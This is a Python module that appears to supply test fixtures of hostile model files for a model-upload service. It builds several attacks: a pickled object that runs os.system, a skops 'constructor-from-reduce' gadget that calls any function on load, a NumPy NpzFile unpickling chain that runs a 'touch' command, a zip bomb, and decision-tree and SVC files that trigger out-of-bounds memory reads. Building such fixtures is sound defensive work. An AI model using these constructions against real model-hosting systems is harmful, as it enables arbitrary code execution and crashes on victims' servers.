"""Model files an attacker would upload, built the way an attacker would build them."""

from __future__ import annotations

import io
import json
import os
import zipfile
from pathlib import Path
from typing import Any

import numpy as np
import skops.io
from sklearn.datasets import load_iris
from sklearn.linear_model import LogisticRegression
from sklearn.pipeline import Pipeline
from sklearn.preprocessing import StandardScaler
from sklearn.svm import SVC
from sklearn.tree import DecisionTreeClassifier

from shared.model_files import dump_model


class _RunsCommand:
    """Pickles to `os.system(command)`: what an object array in a hostile .npy holds."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> tuple[Any, tuple[str]]:
        return (os.system, (self.command,))


def _json_node(value: object, node_id: int) -> dict[str, Any]:
    return {
        "__class__": type(value).__name__,
        "__module__": "builtins",
        "__loader__": "JsonNode",
        "content": json.dumps(value),
        "is_json": True,
        "__id__": node_id,
    }


def _construct_node(module: str, name: str, args: list[Any], node_id: int) -> dict[str, Any]:
    """A node whose loading calls module.name(*args) (skops' constructor-from-reduce)."""
    return {
        "__class__": name,
        "__module__": module,
        "__loader__": "ConstructorFromReduceNode",
        "__id__": node_id,
        "content": {
            "__class__": "tuple",
            "__module__": "builtins",
            "__loader__": "TupleNode",
            "__id__": node_id + 1,
            "content": args,
        },
    }


def _zip(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def _schema_of(data: bytes) -> dict[str, Any]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        schema: dict[str, Any] = json.loads(archive.read("schema.json"))
    return schema


def call_on_load(module: str, name: str, *args: str) -> bytes:
    """A file whose loading calls module.name(*args)."""
    arguments = [_json_node(arg, 10 + 2 * index) for index, arg in enumerate(args)]
    schema = _construct_node(module, name, arguments, 2) | {"protocol": 2}
    return _zip({"schema.json": json.dumps(schema).encode()})


def npz_unpickling_attack(folder: Path, marker: Path) -> bytes:
    """numpy's NpzFile(path, own_fid=False, allow_pickle=True), read through its BagObj.

    The zip at `path` stands for an earlier upload kept on disk, with a member holding a
    pickled object array. A Pipeline (a trusted estimator) whose steps are the NpzFile and
    a BagObj over it makes scikit-learn's tag lookup read that member, which unpickles it
    and runs `touch marker`.
    """
    stash = folder / "earlier-upload.zip"
    array = io.BytesIO()
    np.save(array, np.array([_RunsCommand(f"touch {marker}")], dtype=object), allow_pickle=True)
    stash.write_bytes(_zip({"__sklearn_tags__.npy": array.getvalue()}))
    npz = _construct_node(
        "numpy.lib._npyio_impl",
        "NpzFile",
        [_json_node(str(stash), 9011), _json_node(False, 9012), _json_node(True, 9013)],
        9000,
    )
    bag = _construct_node("numpy.lib._npyio_impl", "BagObj", [npz], 9100)
    schema = _schema_of(
        skops.io.dumps(Pipeline([("a", StandardScaler()), ("b", LogisticRegression())]))
    )
    steps = schema["content"]["content"]["steps"]["content"]
    steps[0]["content"][1] = npz
    steps[1]["content"][1] = bag
    return _zip({"schema.json": json.dumps(schema).encode()})


def with_extra_member(data: bytes, name: str = "payload.npy", content: bytes = b"x") -> bytes:
    """A genuine model file plus a zip member its schema never references."""
    buffer = io.BytesIO(data)
    with zipfile.ZipFile(buffer, "a") as archive:
        archive.writestr(name, content)
    return buffer.getvalue()


def zip_bomb(data: bytes, unpacked_bytes: int) -> bytes:
    """A genuine model file whose array member is replaced by `unpacked_bytes` of zeros."""
    source = zipfile.ZipFile(io.BytesIO(data))
    victim = next(name for name in source.namelist() if name.endswith(".npy"))
    buffer = io.BytesIO()
    with source, zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as bomb:
        for info in source.infolist():
            if info.filename != victim:
                bomb.writestr(info.filename, source.read(info.filename))
        with bomb.open(victim, "w", force_zip64=True) as member:
            chunk = bytes(1024 * 1024)
            for _ in range(unpacked_bytes // len(chunk)):
                member.write(chunk)
    return buffer.getvalue()


def tree_with_child_outside() -> bytes:
    """A fitted decision tree whose root points at a child far past the node array.

    scikit-learn follows the index unchecked: predicting with it reads wild memory.
    """
    features, target = load_iris(return_X_y=True)
    model = DecisionTreeClassifier(max_depth=2, random_state=0).fit(features, target)
    state = model.tree_.__getstate__()
    nodes = state["nodes"].copy()
    nodes["left_child"][0] = 10**9
    model.tree_.__setstate__(state | {"nodes": nodes})
    return dump_model(model)


def svc_with_overstated_support_count() -> bytes:
    """An iris SVC (species labels) whose per-class support counts run past its vectors.

    The counts still sum to the number of support vectors, which is all scikit-learn
    checks; libsvm walks its arrays by them and reads far out of bounds on predict.
    """
    iris = load_iris()
    labels = [str(iris.target_names[index]) for index in iris.target]
    model = SVC().fit(iris.data, labels)
    total = len(model.support_vectors_)
    members = _members_of(dump_model(model))
    schema = json.loads(members["schema.json"])
    counts = np.array([10**8, total - 10**8 - 1, 1], dtype=np.int32)
    array = io.BytesIO()
    np.save(array, counts, allow_pickle=False)
    members[schema["content"]["content"]["_n_support"]["file"]] = array.getvalue()
    return _zip(members)


def _members_of(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}
